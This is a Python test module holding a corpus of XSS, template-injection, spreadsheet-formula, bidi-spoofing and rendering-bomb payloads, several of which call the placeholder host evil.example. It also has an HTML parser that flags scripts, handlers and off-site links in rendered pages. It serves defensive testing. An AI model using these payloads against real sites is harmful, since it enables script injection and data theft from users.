"""Text that wants to be more than text: what a model, a learner or a member of staff may write."""

from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

EVIL: Final = "evil.example"
# Each alone, since one may hide another.
CORPUS: Final = {
    "script": f"<script>window.hacked = 1; fetch('//{EVIL}/')</script>",
    "closed script": f"</script><script src=//{EVIL}/x.js></script><!--",
    "closed text": f"</textarea></title></style></template><img src=//{EVIL}/t onerror=alert(1)>",
    "handlers": f"\"><svg onload=alert(1)><img src=x onerror=fetch('//{EVIL}/')>' onfocus=alert(1)",
    "links": f"[here](javascript:alert(1)) <javascript:alert(1)> <https://{EVIL}/> https://{EVIL}/",
    "images": f"![x](http://{EVIL}/y.png) ![y][1]\n\n[1]: http://{EVIL}/z.png",
    "frames": f"<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//{EVIL}/>"
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'><link rel=stylesheet href=//{EVIL}/>"
    f"<form action=//{EVIL}/><button formaction=javascript:alert(1)>x</button>",
    "style": f"<style>*{{background:url(//{EVIL}/)}}</style><p style='position:fixed;inset:0'>",
    "templates": "{{ 7|add:7 }} {% debug %} ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "markdown bomb": "**" * 300 + "_*" * 300 + "> " * 150 + "x",
    "nested lists": "\n".join("  " * depth + "- x" for depth in range(60)),
    "direction": "\u202e\u2066gnp.exe\u2069 \u202bקול\u200f ar\u200dabic \u2067",
    "long word": "supercalifragilistic" * 150,
    "zalgo": "H" + "\u0301\u0489" * 300,
    "invisible": "a\u200b\ufeff\u00ad\u2028\u2029b\x07\x1b[31m",
    "formula": '=HYPERLINK("http://' + EVIL + '/","x")\n+1\n-1\n@SUM(A1)',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
}
ALL: Final = "\n\n".join(CORPUS.values())
# For fields of one line.
LINE: Final = CORPUS["handlers"] + CORPUS["script"] + "\u202e=1+1"
ADDRESSES: Final = frozenset({"href", "src", "action", "formaction", "srcset", "poster", "data"})
SCRIPTS: Final = ("/static/", "/admin/jsi18n/")
OURS: Final = ("", "localhost:8000", "testserver")


class Inert(HTMLParser):
    """Reads a page, and lists in `problems` what may run, load or lead elsewhere."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        data = found.get("type") == "application/json"
        if tag == "script" and not (data or found.get("src", "").startswith(SCRIPTS)):
            self.problems.append(self.get_starttag_text() or tag)
        if tag in ("style", "base", "object", "embed"):
            self.problems.append(tag)
        for name, value in found.items():
            if name == "style" or name.startswith("on") or name == "srcdoc":
                self.problems.append(f"{tag} {name}={value[:80]}")
            if name in ADDRESSES and not self._is_ours(value):
                self.problems.append(f"{tag} {name}={value[:80]}")

    def _is_ours(self, address: str) -> bool:
        if address.startswith(("data:image/svg+xml", "mailto:", "#", "otpauth:")):
            return True
        parts = urlsplit(address.strip())
        return parts.scheme in ("", "http") and parts.netloc in OURS
